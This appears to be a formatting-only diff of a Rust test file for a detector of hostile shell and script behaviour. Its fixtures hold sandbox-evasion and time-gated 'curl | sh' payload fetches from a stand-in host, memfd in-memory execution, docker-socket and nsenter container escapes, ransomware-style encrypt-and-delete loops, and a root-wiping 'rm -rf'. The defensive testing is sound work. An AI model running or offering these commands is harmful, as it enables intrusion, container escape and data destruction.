@@ -23,19 +23,32 @@ fn traces_and_guards() {
 
 #[test]
 fn gates_before_the_network() {
-    check("if grep -q hypervisor /proc/cpuinfo; then\n  exit 0\nfi\ncurl -s https://h.example/x | sh\n", &["EVA-SBXCHECK?"]);
+    check(
+        "if grep -q hypervisor /proc/cpuinfo; then\n  exit 0\nfi\ncurl -s https://h.example/x | sh\n",
+        &["EVA-SBXCHECK?"],
+    );
     check("if [ -f /.dockerenv ]; then echo container; fi\ncurl -s https://h.example/x | sh\n", &[]);
     check("[ -f /.dockerenv ] && exit 0\nexec app\n", &[]);
     check("sleep 600\ncurl -s https://h.example/x | sh\n", &["EVA-TIMEGATE?"]);
-    check("[ \"$(date +%s)\" -lt 1900000000 ] && exit 0\ncurl -s https://h.example/x | sh\n", &["EVA-TIMEGATE?"]);
+    check(
+        "[ \"$(date +%s)\" -lt 1900000000 ] && exit 0\ncurl -s https://h.example/x | sh\n",
+        &["EVA-TIMEGATE?"],
+    );
     check("while true; do\n  curl -s https://h.example/x | sh\n  sleep 3600\ndone\n", &[]);
     check("sleep 600\nexec app\n", &[]);
 }
 
 #[test]
 fn programs_in_memory() {
-    let script = |run: &str| format!("#!/usr/bin/env python3\nimport os, ctypes\nfd = os.memfd_create('x')\n{run}\n");
-    check_file(&Impairment, "x.py", &script("os.execve('/proc/self/fd/3', ['x'], {})"), &["/x.py"], &["EVA-MEMFD?"]);
+    let script =
+        |run: &str| format!("#!/usr/bin/env python3\nimport os, ctypes\nfd = os.memfd_create('x')\n{run}\n");
+    check_file(
+        &Impairment,
+        "x.py",
+        &script("os.execve('/proc/self/fd/3', ['x'], {})"),
+        &["/x.py"],
+        &["EVA-MEMFD?"],
+    );
     check_file(&Impairment, "x.py", &script("os.write(fd, b'x'); os.system('true')"), &["/x.py"], &[]);
 }
 
@@ -55,7 +68,10 @@ fn escapes() {
         "curl -s --unix-socket /var/run/docker.sock -d '{\"HostConfig\":{\"Binds\":[\"/:/h\"]}}' http://localhost/containers/create\n",
         &["ESC-SOCK?"],
     );
-    check("docker run -v /data:/data x\ncurl --unix-socket /var/run/docker.sock http://localhost/containers/json\n", &[]);
+    check(
+        "docker run -v /data:/data x\ncurl --unix-socket /var/run/docker.sock http://localhost/containers/json\n",
+        &[],
+    );
     check("nsenter -t 1 -m -u -i -n -p -- sh\n", &["ESC-NSENTER?"]);
     check("chroot /host systemctl restart x\n", &["ESC-NSENTER?"]);
     check("nsenter -t $PID -n ip a\nchroot /srv/jail app\nmount /dev/shm\n", &[]);
@@ -65,8 +81,14 @@ fn escapes() {
 
 #[test]
 fn destruction() {
-    check("for f in $(find /data); do gpg -c --passphrase x $f; rm $f; done\nrm -rf /data/backups\n", &["IMP-RANSOM?"]);
-    check("find / -name '*.doc' -exec openssl enc -aes256 -in {} -out {}.x -k p \\;\necho pay > /HOW_TO_DECRYPT.txt\n", &[]);
+    check(
+        "for f in $(find /data); do gpg -c --passphrase x $f; rm $f; done\nrm -rf /data/backups\n",
+        &["IMP-RANSOM?"],
+    );
+    check(
+        "find / -name '*.doc' -exec openssl enc -aes256 -in {} -out {}.x -k p \\;\necho pay > /HOW_TO_DECRYPT.txt\n",
+        &[],
+    );
     check("for f in /data/*; do openssl enc -aes-256-cbc -in \"$f\" -out \"$f.x\" -k p; done\n", &[]);
     check("pg_dump db | gpg -e -r k > /backup/db.gpg\nrm -rf /backup/old.bak\n", &[]);
     check("rm -rf --no-preserve-root /\n", &["IMP-WIPE?"]);
